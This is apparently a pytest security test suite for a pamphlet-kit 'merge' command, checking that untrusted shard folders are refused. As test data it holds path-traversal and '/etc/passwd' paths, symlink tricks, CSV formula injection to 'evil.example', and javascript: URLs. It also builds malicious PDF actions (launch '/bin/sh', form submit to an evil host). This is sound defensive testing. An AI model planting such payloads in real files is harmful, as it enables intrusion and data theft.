"""``merge`` treats a shard's folder as untrusted input (a CI runner any pull request can
influence): every attack ends in one line naming the shard's file, exit status 1, no
traceback, nothing written outside the output folder, and the output folder as it was."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import shutil
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import FIXTURES, build, fixture_campaign, run

FLYER = "en/flyer-home.pdf"
SHEET = "en/signsheet-home.pdf"
CSV = "en/signsheet.csv"
EVENT = "harbour-vigil"
EVENT_FLYER = f"events/{EVENT}/{FLYER}"
KIT = ("-p", "home", "-l", "en")


@pytest.fixture(scope="session")
def shards(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Two real shards of a small kit, and their merge. Shard a: the English flyer and the
    vigil's flyer; shard b: the signature sheet and its CSV."""
    root = tmp_path_factory.mktemp("untrusted-merge")
    project = fixture_campaign("campaign", root)
    event = str(FIXTURES / "events" / f"{EVENT}.toml")
    found = {"project": project}
    for number, name in ((1, "a"), (2, "b")):
        for args in (("-m", "flyer", "-m", "signsheet"), ("-m", "flyer", "--event", event)):
            code, output = build(project, root / name, *args, *KIT, "--shard", f"{number}/2")
            assert code == 0, output
        found[name] = root / name
    assert (found["a"] / FLYER).is_file() and (found["a"] / EVENT_FLYER).is_file()
    assert (found["b"] / SHEET).is_file() and (found["b"] / CSV).is_file()
    found["merged"] = root / "merged"
    code, output = merge(project, found["merged"], found["a"], found["b"])
    assert code == 0, output
    return found


# Helpers ------------------------------------------------------------------------------------

def merge(project: Path, out: Path, *sources: Path) -> tuple[int, str]:
    return run("merge", *map(str, sources), "--project", str(project), "--out", str(out))


def snapshot(root: Path) -> dict[str, str]:
    """Every file and link under ``root`` (links not followed) with its hash or target; the
    lock file aside (taking it is not a change)."""
    found = {}
    for folder, dirs, names in os.walk(root):
        for name in (*dirs, *names):
            path = Path(folder, name)
            where = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[where] = "-> " + os.readlink(path)
            elif path.is_file() and path.name != "build.lock":
                found[where] = hashlib.sha256(path.read_bytes()).hexdigest()
            elif path.is_dir():
                found[where] = "/"
    return found


@pytest.fixture
def arena(shards, tmp_path) -> Callable[[str], Path]:
    """Private copies of the shards (``copy("a")``), beside an output folder that already
    holds the merged kit, so that a partial write would show."""
    shutil.copytree(shards["merged"], tmp_path / "out", symlinks=True)

    def copy_of(name: str, as_name: str | None = None) -> Path:
        target = tmp_path / (as_name or name)
        shutil.copytree(shards[name], target, symlinks=True)
        return target

    return copy_of


def manifest_of(shard: Path) -> dict:
    return json.loads((shard / "manifest.json").read_text("utf-8"))


def save_manifest(shard: Path, data: dict) -> None:
    (shard / "manifest.json").write_text(json.dumps(data, indent=2, ensure_ascii=False),
                                         "utf-8")


def entry(data: dict, path: str) -> dict:
    return next(e for e in data["outputs"] if e["path"] == path)


def edit(shard: Path, change: Callable[[dict], object]) -> None:
    data = manifest_of(shard)
    change(data)
    save_manifest(shard, data)


def rehash(record: dict, file: Path) -> None:
    """Make a manifest record tell the truth about ``file`` (an attacker controls both)."""
    data = file.read_bytes()
    record["bytes"], record["sha256"] = len(data), hashlib.sha256(data).hexdigest()


def refused(shards, tmp_path: Path, sources: list[Path], where: str | Path, message: str,
            out: Path | None = None) -> str:
    """The merge fails with one line ``Error: <where>: ...<message>``, no traceback, and
    leaves every file under ``tmp_path`` (the output folder, the shards) as it was."""
    out = out or tmp_path / "out"
    before = snapshot(tmp_path)
    code, output = merge(shards["project"], out, *sources)
    assert code == 1 and "Traceback" not in output, output[-3000:]
    line = next((line for line in output.splitlines() if message in line), None)
    assert line is not None, output[-3000:]
    assert line.startswith("Error: ") and str(where) in line, line
    assert snapshot(tmp_path) == before
    assert not list(out.glob(".pamphleteer/merge-*"))  # no staging folder left behind
    return line


# 1. "..", absolute paths and other tricks in the fields paths are made of -----------------

@pytest.mark.slow
@pytest.mark.parametrize(("field", "value", "said"), [
    ("locale", "../../../../escape", "locale '../../../../escape' is not a language of"),
    ("locale", "/tmp/escape", "is not a language of this campaign"),
    ("locale", "\u0435n", "locale '\u0435n' is not a language of this campaign"),  # a Cyrillic e
    ("locale", "fr", "locale 'fr' is not a language of this campaign"),  # not in the campaign
    ("event", "../../../../escape", "event '../../../../escape' is not one of this manifest"),
    ("event", "other-vigil", "event 'other-vigil' is not one of this manifest's events"),
    ("material", "zine", "material 'zine' is not a material"),
    ("material", "../flyer", "material '../flyer' is not a material"),
    ("profile", "print", "profile 'print' is not a profile"),
    ("content_locale", "ko", "content_locale 'ko' is not the language of its text"),
])
def test_fields_paths_are_made_of_are_checked(shards, arena, tmp_path, field, value, said):
    shard = arena("a")
    piece = EVENT_FLYER if field == "event" else FLYER  # the zips are per event, or locale
    edit(shard, lambda data: entry(data, piece).update({field: value}))
    refused(shards, tmp_path, [shard], shard / "manifest.json", said)
    assert not list(tmp_path.parent.glob("*escape*")) and not Path("/tmp/escape.zip").exists()


@pytest.mark.slow
def test_a_dotted_event_slug_in_the_events_table_is_refused(shards, arena, tmp_path):
    shard = arena("a")

    def rename(data: dict) -> None:
        data["events"] = {"../../../../escape": data["events"][EVENT]}
        entry(data, EVENT_FLYER)["event"] = "../../../../escape"

    edit(shard, rename)
    refused(shards, tmp_path, [shard], shard / "manifest.json",
            "events: '../../../../escape' is not an event's slug")


@pytest.mark.slow
@pytest.mark.parametrize("path", [
    f"./{FLYER}", "en/./flyer-home.pdf", "en//flyer-home.pdf", f"{Path.cwd()}/x/{FLYER}",
    "/etc/passwd", "en\\flyer-home.pdf", f"{FLYER}\x00", f"{FLYER}\x00.txt", "EN/flyer-home.pdf",
    f"{FLYER} ", "\u0435n/flyer-home.pdf", "en/flyer-home.pdf/", "../a/en/flyer-home.pdf",
    "javascript:alert(1)/x.pdf", "data:text/html,<script>alert(1)</script>/x.pdf",
    "downloads/fixture-peace-en.zip", "thumbs/d8d04b1dd7f382505c31.png", "index.html",
    "fonts/x.otf", "manifest.json",
])
def test_a_path_must_be_the_one_its_fields_give(shards, arena, tmp_path, path):
    shard = arena("a")
    planted = shard / path  # the file is there: only its path gives it away
    if path.isprintable() and not path.startswith("/") and ".." not in path \
            and not planted.exists():
        planted.parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(shard / FLYER, planted)
    edit(shard, lambda data: entry(data, FLYER).update(path=path))
    refused(shards, tmp_path, [shard], shard / "manifest.json",
            "is not where its locale, material, profile and event put it (en/flyer-home.pdf)")


@pytest.mark.slow
def test_a_dotted_path_cannot_override_another_shards_file(shards, arena, tmp_path):
    """``./en/flyer-home.pdf`` was not "already seen" as ``en/flyer-home.pdf``: the second
    shard's file replaced the first's. The same path with other bytes is refused too."""
    first, second = arena("a"), arena("a", "a2")
    shutil.copyfile(shards["b"] / SHEET, second / FLYER)  # another real PDF of one page

    def override(data: dict, path: str) -> None:
        flyer = next(e for e in data["outputs"] if e["material"] == "flyer" and not e["event"])
        rehash(flyer, second / FLYER)
        flyer["path"] = path

    edit(second, lambda data: override(data, f"./{FLYER}"))
    refused(shards, tmp_path, [first, second], second / "manifest.json",
            f"path './{FLYER}' is not where its locale, material, profile and event put it")
    edit(second, lambda data: override(data, FLYER))
    line = refused(shards, tmp_path, [first, second], second / "manifest.json",
                   f"{FLYER} differs between")
    assert str(first) in line and str(second) in line


# 2. Links: never followed, wherever they point ----------------------------------------------

# What a link replaces in a shard, and where it points.
LINKS = {"outside": (FLYER, "secret"), "inside": (FLYER, "inside"), "folder": ("en", "folder"),
         "unread": ("thumbs/planted.png", "/etc/passwd"), "manifest": ("manifest.json", "copy"),
         "cache": (".pamphleteer/cache.json", "copy")}


@pytest.mark.slow
@pytest.mark.parametrize("where", list(LINKS))
def test_a_shard_holding_a_link_is_refused(shards, arena, tmp_path, where):
    shard = arena("a")
    secret = tmp_path / "secret" / "flyer-home.pdf"
    secret.parent.mkdir()
    secret.write_bytes(b"%PDF-1.4 TOP SECRET")
    name, points = LINKS[where]
    link = shard / name
    if points in ("secret", "inside", "folder"):  # the manifest vouches for the secret
        edit(shard, lambda data: rehash(entry(data, FLYER), secret))
    target = {"secret": secret, "inside": shard / "inside.pdf", "folder": secret.parent,
              "copy": tmp_path / "copy"}.get(points, Path(points))
    if points in ("inside", "copy"):
        shutil.copyfile(secret if points == "inside" else link, target)
    if link.is_dir():
        shutil.rmtree(link)
    else:
        link.unlink(missing_ok=True)
    link.symlink_to(target)
    refused(shards, tmp_path, [shard], link, "merge takes no links, wherever they point")


@pytest.mark.slow
def test_a_shard_folder_that_is_a_link_is_refused(shards, arena, tmp_path):
    shard = arena("a")
    (tmp_path / "linked").symlink_to(shard)
    refused(shards, tmp_path, [tmp_path / "linked"], tmp_path / "linked",
            "this shard folder is a link: name the folder itself")


@pytest.mark.slow
def test_the_output_folder_and_a_shard_must_be_apart(shards, arena, tmp_path):
    shard = arena("a")
    refused(shards, tmp_path, [shard], shard, "is inside this shard folder", out=shard / "kit")
    assert not (shard / "kit").exists()  # not even the lock folder
    inner = tmp_path / "out" / "shard-a"
    shutil.copytree(shard, inner)
    refused(shards, tmp_path, [inner], inner, "this shard folder is inside the output folder")
    refused(shards, tmp_path, [shard], shard, "cannot also be the folder merged into",
            out=shard)


# 3. The signature-sheet CSVs: checked against the manifest's files ------------------------

@pytest.mark.slow
def test_a_csv_changed_after_its_build_is_refused(shards, arena, tmp_path):
    shard = arena("b")
    (shard / CSV).write_text('=HYPERLINK("https://evil.example","sign here")\r\n', "utf-8")
    refused(shards, tmp_path, [shard], shard / "manifest.json",
            f"{CSV} does not match its manifest entry")


@pytest.mark.slow
def test_a_csv_with_rows_of_its_own_is_refused_even_if_its_hash_is_recorded(shards, arena,
                                                                           tmp_path):
    """A build writes only the header row, from the campaign's strings: a shard's CSV must
    be that, so no planted row (or spreadsheet formula) reaches the kit."""
    shard = arena("b")
    (shard / CSV).write_bytes((shard / CSV).read_bytes() + b'=HYPERLINK("https://x.example")\r\n')
    edit(shard, lambda data: rehash(next(f for f in data["files"] if f["path"] == CSV),
                                    shard / CSV))
    refused(shards, tmp_path, [shard], shard / CSV,
            "this is not the header row the campaign's strings give")


@pytest.mark.slow
def test_two_shards_disagreeing_on_a_csv_are_refused(shards, arena, tmp_path):
    first, second = arena("b"), arena("b", "b2")
    (second / CSV).write_bytes((second / CSV).read_bytes() + b"extra,row\r\n")
    edit(second, lambda data: rehash(next(f for f in data["files"] if f["path"] == CSV),
                                     second / CSV))
    refused(shards, tmp_path, [first, second], second / "manifest.json",
            f"{CSV} differs between")


@pytest.mark.slow
@pytest.mark.parametrize(("make", "said"), [
    (lambda path: os.mkfifo(path), "not a regular file"),
    (lambda path: path.symlink_to("/dev/zero"), "merge takes no links"),
    (lambda path: path.mkdir(), "not a regular file"),
    (lambda path: None, "no such file"),
])
def test_a_csv_that_is_no_ordinary_file_is_refused_at_once(shards, arena, tmp_path, make,
                                                           said):
    shard = arena("b")
    (shard / CSV).unlink()
    make(shard / CSV)
    start = time.monotonic()
    refused(shards, tmp_path, [shard], shard / CSV, said)
    assert time.monotonic() - start < 30  # a FIFO does not block, /dev/zero is not read


@pytest.mark.slow
@pytest.mark.parametrize("path", ["../escape.csv", "fr/signsheet.csv", "en/other.csv",
                                  "/etc/signsheet.csv", "./en/signsheet.csv"])
def test_a_csv_recorded_anywhere_else_is_refused(shards, arena, tmp_path, path):
    shard = arena("b")
    edit(shard, lambda data: next(f for f in data["files"] if f["path"] == CSV).update(
        path=path))
    refused(shards, tmp_path, [shard], shard / "manifest.json",
            "is not <locale>/signsheet.csv for a language of this campaign")


@pytest.mark.slow
def test_files_the_manifest_does_not_record_are_never_taken(shards, arena, tmp_path):
    shard = arena("b")
    (shard / "de").mkdir()
    (shard / "de" / "signsheet.csv").write_text("planted\r\n", "utf-8")
    (shard / "en" / "extra.pdf").write_bytes((shard / SHEET).read_bytes())
    out = tmp_path / "fresh"
    code, output = merge(shards["project"], out, shard)
    assert code == 0, output
    assert not (out / "de").exists() and not (out / "en" / "extra.pdf").exists()
    assert (out / CSV).read_bytes() == (shards["b"] / CSV).read_bytes()


# 4. Links in event data and in QR codes: https only, as in a build --------------------------

@pytest.mark.slow
@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>x</script>",
                                 "http://example.org/petition", "https://user@evil.example/"])
def test_an_event_link_that_is_not_https_is_refused(shards, arena, tmp_path, url):
    shard = arena("a")
    edit(shard, lambda data: data["events"][EVENT].update(links={"petition": url}))
    refused(shards, tmp_path, [shard], shard / "manifest.json",
            f"events.{EVENT}.links.petition: {url!r}")


@pytest.mark.slow
@pytest.mark.parametrize(("field", "value", "said"), [
    ("host", "", f"events.{EVENT}.host: must not be empty"),
    ("name", "two\nlines", f"events.{EVENT}.name: must be one line"),
    ("place", "nul\x00here", f"events.{EVENT}.place holds a control character (U+0000)"),
    ("address", "\u202eevil", "holds a bidirectional control character"),
    ("date", "27/07/2099", "'27/07/2099' is not a date written YYYY-MM-DD"),
    ("date", 20990727, f"events.{EVENT}.date: must be a string, not int"),
    ("time", "25:00", "'25:00' is not a time of day"),
    ("links", {"petition": "https://example.org/x", "shop": "https://example.org/y"},
     f"events.{EVENT}.links.shop: unknown setting"),
    ("colour", "red", f"events.{EVENT}.colour: unknown setting"),
])
def test_event_data_is_checked_as_an_event_file_is(shards, arena, tmp_path, field, value,
                                                   said):
    shard = arena("a")
    edit(shard, lambda data: data["events"][EVENT].update({field: value}))
    refused(shards, tmp_path, [shard], shard / "manifest.json", said)


@pytest.mark.slow
def test_a_qr_code_link_that_is_not_https_is_refused(shards, arena, tmp_path):
    shard = arena("a")
    edit(shard, lambda data: entry(data, FLYER)["qr"][0].update(url="javascript:alert(1)"))
    refused(shards, tmp_path, [shard], shard / "manifest.json",
            "qr[0]: url 'javascript:alert(1)' must be a full https:// address")


@pytest.mark.slow
def test_two_shards_disagreeing_on_an_event_are_refused(shards, arena, tmp_path):
    first, second = arena("a"), arena("a", "a2")
    edit(second, lambda data: data["events"][EVENT].update(place="Somewhere Else"))
    refused(shards, tmp_path, [first, second], second / "manifest.json",
            f"the event {EVENT} differs between")


# 5. Zips, thumbnails and the kit page are made anew, never copied ---------------------------

@pytest.mark.slow
def test_planted_zips_and_thumbnails_are_not_served(shards, arena, tmp_path):
    shard = arena("a")
    data = manifest_of(shard)
    flyer = entry(data, FLYER)
    thumb = shard / "thumbs" / f"{flyer['sha256'][:20]}.png"
    thumb.write_bytes(b"\x89PNG planted")
    # A zip with the comment merge's kit page would trust (it hashes its members' names and
    # hashes, which anyone can compute), holding another file.
    members = {e["path"]: e["sha256"] for e in data["outputs"] if not e["event"]}
    digest = hashlib.sha256()
    for path, sha in sorted(members.items()):
        digest.update(f"{path}\n{sha}\n".encode())
    planted = shard / "downloads" / "fixture-peace-en.zip"
    with zipfile.ZipFile(planted, "w") as archive:
        archive.writestr(FLYER, b"not the flyer")
        archive.comment = f"pamphleteer {digest.hexdigest()}".encode()
    for record in data["files"]:
        rehash(record, shard / record["path"])
    save_manifest(shard, data)
    out = tmp_path / "fresh"
    code, output = merge(shards["project"], out, shard)
    assert code == 0, output
    with zipfile.ZipFile(out / "downloads" / "fixture-peace-en.zip") as archive:
        assert archive.read(FLYER) == (shard / FLYER).read_bytes()
    assert (out / "thumbs" / thumb.name).read_bytes() != thumb.read_bytes()
    assert (out / "thumbs" / thumb.name).read_bytes()[:4] == b"\x89PNG"


@pytest.mark.slow
def test_a_kit_page_links_only_the_kits_own_files(shards):
    page = (shards["merged"] / "index.html").read_text("utf-8")
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert hrefs and not [h for h in hrefs if re.match(r"[a-z][a-z0-9+.-]*:", h, re.I)]
    assert {FLYER, SHEET, EVENT_FLYER} <= set(hrefs)


# 6. A manifest of the wrong shape: a clear message, never a traceback ----------------------

def _dup_key(text: str) -> str:
    return text.replace(f'"path": "{FLYER}"', f'"path": "../../escape.pdf", "path": "{FLYER}"',
                        1)


@dataclass(frozen=True)
class OnText:
    """A change made to the manifest's text, not to its data."""

    change: Callable[[str], str]


HARBOUR = {"name": "Harbour vigil for peace", "date": "2099-07-27", "time": "19:30",
           "place": "Harbour Square", "address": "1 Quay Road", "host": "Harbour Peace Circle"}
# (what, the change, what merge says, the file it names when not the manifest)
SHAPES: list[tuple] = [
    ("outputs a number", lambda d: d.update(outputs=5), "outputs must be a list, not a whole"),
    ("outputs an object", lambda d: d.update(outputs={}), "outputs must be a list, not an obj"),
    ("no outputs", lambda d: d.pop("outputs"), "the manifest has no 'outputs'"),
    ("an unknown key", lambda d: d.update(extra=1), "the manifest has an unknown key 'extra'"),
    ("an entry a string", lambda d: d["outputs"].__setitem__(0, "x"),
     "outputs[0] must be an object, not text"),
    ("an entry without locale", lambda d: d["outputs"][0].pop("locale"),
     "outputs[0] has no 'locale'"),
    ("an entry with a new key", lambda d: d["outputs"][0].update(href="javascript:x"),
     "outputs[0] has an unknown key 'href'"),
    ("pages a string", lambda d: d["outputs"][0].update(pages="1"),
     "pages must be a whole number, not text"),
    ("pages true", lambda d: d["outputs"][0].update(pages=True),
     "pages must be a whole number, not true or false"),
    ("pages huge", lambda d: d["outputs"][0].update(pages=10 ** 400),
     "pages must be a number from 1 to 1,000"),
    ("pages wrong", lambda d: d["outputs"][0].update(pages=2),
     "has 1 page(s), not the 2 its manifest entry says", FLYER),
    ("bytes huge", lambda d: d["outputs"][0].update(bytes=10 ** 4000),
     "bytes must be a number from 0 to 512,000,000"),
    ("bytes wrong", lambda d: d["outputs"][0].update(bytes=d["outputs"][0]["bytes"] + 1),
     "en/flyer-home.pdf does not match its manifest entry"),
    ("bytes negative", lambda d: d["outputs"][0].update(bytes=-1),
     "bytes must be a number from 0 to"),
    ("sha256 short", lambda d: d["outputs"][0].update(sha256="abc"),
     "sha256 must be 64 hex digits"),
    ("fit_scale infinite", lambda d: d["outputs"][0].update(fit_scale=float("inf")),
     "the number Infinity: not a file pamphleteer wrote"),
    # In the text: JSON cannot hold 1e999 as data (whatever scale the fixture was fitted at).
    ("fit_scale 1e999", OnText(lambda t: re.sub(r'"fit_scale": [0-9.]+', '"fit_scale": 1e999', t,
                                                count=1)),
     "fit_scale must be a number from 0.01 to 10"),
    ("fit_scale NaN", lambda d: d["outputs"][0].update(fit_scale=float("nan")),
     "the number NaN"),
    ("a 5000-digit number", OnText(lambda t: t.replace('"pages": 1', '"pages": 1' + "0" * 5000, 1)),
     "not valid JSON"),
    ("qr an object", lambda d: d["outputs"][0].update(qr={}), "qr must be a list"),
    ("qr verified a string", lambda d: d["outputs"][0]["qr"][0].update(verified="yes"),
     "verified must be true or false, not text"),
    ("a warning with an escape", lambda d: d["outputs"][0]["warnings"].append("\x1b[2Jgone"),
     "warnings[0] holds a control character (U+001B)"),
    ("a translation unknown", lambda d: d["outputs"][0].update(translation="machine"),
     "translation 'machine' is not a translation status"),
    ("a signsheet for an event", lambda d: (d.update(events={EVENT: HARBOUR}),
                                            d["outputs"][1].update(event=EVENT)),
     "outputs[1]: a signsheet never carries an event"),
    ("events a list", lambda d: d.update(events=[]), "events must be an object, not a list"),
    ("an event without a name", lambda d: d.setdefault("events", {}).update(
        {"x": {"date": "2099-01-01"}}), "events.x: missing required setting"),
    ("files a string", lambda d: d.update(files="x"), "files must be a list, not text"),
    ("a file record without a hash", lambda d: d["files"][0].pop("sha256"),
     "files[0] has no 'sha256'"),
    ("nested deep", lambda d: d["outputs"][0].update(qr=json.loads("[" * 20 + "]" * 20)),
     "JSON nested more than 8 deep"),
    ("nested very deep", OnText(lambda t: t.replace('"qr": [', '"qr": [' + "[" * 100_000
                                                    + "]" * 100_000 + ",", 1)),
     "JSON nested more than 8 deep"),
    ("a key twice", OnText(_dup_key), "the key 'path' twice in one object"),
    ("a key with a newline", lambda d: d.update({"a\nb": 1}), "a key 'a\\nb' that is no name"),
    ("a list, not an object", OnText(lambda t: "[]"),
     "this manifest was not written by pamphleteer"),
    ("not JSON", OnText(lambda t: t[:-20]), "not valid JSON"),
    ("another campaign", lambda d: d.update(campaign="Other"),
     "this kit is of the campaign 'Other'"),
    ("another version", lambda d: d.update(generator="pamphleteer 9.9"),
     "built by 'pamphleteer 9.9'"),
    ("an entry listed twice", lambda d: d["outputs"].append(copy.deepcopy(d["outputs"][0])),
     "the manifest lists en/flyer-home.pdf twice"),
]


@pytest.mark.slow
@pytest.mark.parametrize(("change", "said", "file"),
                         [(*shape[1:], "manifest.json")[:3] for shape in SHAPES],
                         ids=[shape[0] for shape in SHAPES])
def test_a_manifest_of_the_wrong_shape_is_refused_by_name(shards, arena, tmp_path, change,
                                                          said, file):
    shard = arena("b")
    # Shard b, with the English flyer's entry first (as a shard holding both would list it).
    shutil.copyfile(shards["a"] / FLYER, shard / FLYER)
    data = manifest_of(shard)
    data["outputs"].insert(0, entry(manifest_of(shards["a"]), FLYER))
    if isinstance(change, OnText):
        text = change.change(json.dumps(data, indent=2, ensure_ascii=False))
    else:
        change(data)
        text = json.dumps(data, indent=2, ensure_ascii=False)
    (shard / "manifest.json").write_text(text, "utf-8")
    refused(shards, tmp_path, [shard], shard / file, said)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["manifest.json", ".pamphleteer/cache.json"])
def test_a_manifest_or_cache_that_is_a_fifo_is_refused_at_once(shards, arena, tmp_path, name):
    shard = arena("a")
    (shard / name).unlink()
    os.mkfifo(shard / name)
    refused(shards, tmp_path, [shard], shard / name, "not a regular file")


@pytest.mark.slow
def test_a_cache_of_the_wrong_shape_is_refused(shards, arena, tmp_path):
    shard = arena("a")
    cache = shard / ".pamphleteer" / "cache.json"
    cache.write_text(json.dumps({"generator": "pamphleteer", "keys": {FLYER: ["x"]}}))
    refused(shards, tmp_path, [shard], cache, "this build cache is not as pamphleteer writes it")


@pytest.mark.slow
def test_a_pdf_that_is_not_one_is_refused(shards, arena, tmp_path):
    shard = arena("a")
    (shard / FLYER).write_bytes(b"%PDF-1.7\nnot really\n")
    edit(shard, lambda data: rehash(entry(data, FLYER), shard / FLYER))
    refused(shards, tmp_path, [shard], shard / FLYER, "not a PDF a build wrote")


def _with(pdf, change: str) -> None:
    """Give the pikepdf document ``pdf`` one piece of active content."""
    import pikepdf

    page = pdf.pages[0]
    if change == "script on opening":
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    elif change == "launch in a link":
        page.Annots[0].A = pikepdf.Dictionary(S=pikepdf.Name.Launch,
                                              F=pikepdf.String("/bin/sh"))
    elif change == "javascript: link":
        page.Annots[0].A = pikepdf.Dictionary(S=pikepdf.Name.URI,
                                              URI=pikepdf.String("javascript:alert(1)"))
    elif change == "attached file":
        pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("a.exe"), pdf.make_indirect(
                pikepdf.Dictionary(Type=pikepdf.Name.Filespec))])))
    elif change == "form submitted on a page action":
        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")))


@pytest.mark.slow
@pytest.mark.parametrize(("change", "said"), [
    ("script on opening", "holds a /OpenAction entry"),
    ("launch in a link", "holds a /Launch action"),
    ("javascript: link", "holds a link to 'javascript:alert(1)'"),
    ("attached file", "holds a /EmbeddedFiles entry"),
    ("form submitted on a page action", "holds a /AA entry"),
])
def test_a_pdf_with_active_content_is_refused_even_with_its_hash(shards, arena, tmp_path,
                                                                change, said):
    import pikepdf

    shard = arena("a")
    with pikepdf.open(shard / FLYER, allow_overwriting_input=True) as pdf:
        assert pdf.pages[0].get("/Annots"), "the flyer's links: the attack needs one"
        _with(pdf, change)
        pdf.save(shard / FLYER)
    edit(shard, lambda data: rehash(entry(data, FLYER), shard / FLYER))
    line = refused(shards, tmp_path, [shard], shard / FLYER, said)
    assert line.endswith("which a build never writes: build the shard again"), line


@pytest.mark.slow
def test_a_clean_merge_still_equals_the_shards(shards):
    merged = manifest_of(shards["merged"])
    assert [e["path"] for e in merged["outputs"]] == sorted([EVENT_FLYER, FLYER, SHEET])
    for name in ("a", "b"):
        for record in manifest_of(shards[name])["outputs"]:
            assert entry(merged, record["path"]) == record
    assert merged["events"] == manifest_of(shards["a"])["events"]
    assert (shards["merged"] / CSV).read_bytes() == (shards["b"] / CSV).read_bytes()
    keys = json.loads((shards["merged"] / ".pamphleteer" / "cache.json").read_text())["keys"]
    assert set(keys) == {EVENT_FLYER, FLYER, SHEET}


# 7. Fuzz: any manifest ends in a merge or in a PamphleteerError -----------------------------

NASTY = ["../../../../escape", "/etc/passwd", "en\\flyer-home.pdf", f"{FLYER}\x00",
         "javascript:alert(1)", "data:text/html,x", "\u0435n", f"./{FLYER}", FLYER,
         "downloads/fixture-peace-en.zip", "", "harbour-vigil", "en", "de", "flyer", "home",
         "signsheet", "screen", "pamphleteer 0.1.0", "signature-sheet CSV", "\u202e", "a\nb"]
KEYS = ["path", "locale", "material", "profile", "event", "events", "outputs", "files", "qr",
        "url", "pages", "bytes", "sha256", "links", "harbour-vigil", "x"]
SCALARS = st.one_of(st.none(), st.booleans(), st.integers(-2, 2), st.just(10 ** 300),
                    st.floats(allow_nan=True, allow_infinity=True), st.sampled_from(NASTY),
                    st.text(max_size=8))
VALUES = st.recursive(SCALARS, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.sampled_from(KEYS), inner, max_size=3)),
    max_leaves=8)


def _places(data: object, trail: tuple = ()) -> list[tuple]:
    """Every (container, key) of a JSON document, for a mutation to pick from."""
    found = []
    items = data.items() if isinstance(data, dict) else enumerate(data) \
        if isinstance(data, list) else ()
    for key, value in items:
        found.append((data, key))
        found += _places(value)
    return found


@st.composite
def mutated(draw, original: dict) -> dict:
    """A real shard manifest with one to three changes of type, key or nesting."""
    data = copy.deepcopy(original)
    for _ in range(draw(st.integers(1, 3))):
        places = _places(data)
        if not places:
            break
        container, key = draw(st.sampled_from(places))
        action = draw(st.sampled_from(["replace", "delete", "add", "nest"]))
        if action == "replace":
            container[key] = draw(VALUES)
        elif action == "delete":
            del container[key]
        elif action == "add" and isinstance(container, dict):
            container[draw(st.sampled_from(KEYS))] = draw(VALUES)
        elif action == "add":
            container.append(draw(VALUES))
        else:
            for _ in range(draw(st.integers(1, 40))):
                container[key] = [container[key]] if draw(st.booleans()) else \
                    {draw(st.sampled_from(KEYS)): container[key]}
    return data


@pytest.mark.slow
def test_fuzzed_manifests_end_in_a_merge_or_a_clear_error(shards):
    original = manifest_of(shards["a"])
    started = time.monotonic()

    @settings(max_examples=40, deadline=None, derandomize=True, database=None,
              suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
    @given(mutated(original))
    def check(data: dict) -> None:
        with tempfile.TemporaryDirectory() as temp:
            arena = Path(temp)
            shard = arena / "shard"
            shutil.copytree(shards["a"], shard, symlinks=True)
            (shard / "manifest.json").write_text(json.dumps(data), "utf-8")
            out = arena / "deep" / "er" / "still" / "out"  # "../" must climb far to escape
            before = snapshot(arena)
            code, output = merge(shards["project"], out, shard)
            assert code in (0, 1) and "Traceback" not in output, output[-3000:]
            if code == 1:
                assert output.startswith("Error: ") and str(shard) in output, output
            after = snapshot(arena)
            outside = {path: sha for path, sha in after.items() if not path.startswith("deep")}
            assert outside == before  # the shard as it was, nothing new beside it
            assert {path for path in after if path.startswith("deep")} - {
                "deep", "deep/er", "deep/er/still"} <= {
                path for path in after if path.startswith("deep/er/still/out")}

    check()
    assert time.monotonic() - started < 120
